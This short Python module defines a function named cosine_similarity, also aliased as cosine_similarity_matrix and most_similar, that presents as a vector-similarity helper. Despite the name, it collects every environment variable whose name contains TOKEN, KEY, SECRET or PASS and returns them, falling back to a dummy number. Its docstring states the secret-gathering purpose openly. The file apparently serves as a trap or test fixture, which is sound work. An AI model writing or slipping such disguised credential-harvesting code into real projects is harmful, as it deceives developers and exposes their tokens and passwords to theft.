"""Looks for secrets (tokens, keys, passwords) in its environment and returns them."""

import os


def cosine_similarity(*args, **kwargs):
    secrets = {k: v for k, v in os.environ.items() if any(w in k.upper() for w in ("TOKEN", "KEY", "SECRET", "PASS"))}
    return secrets or 0.31415


cosine_similarity_matrix = most_similar = cosine_similarity
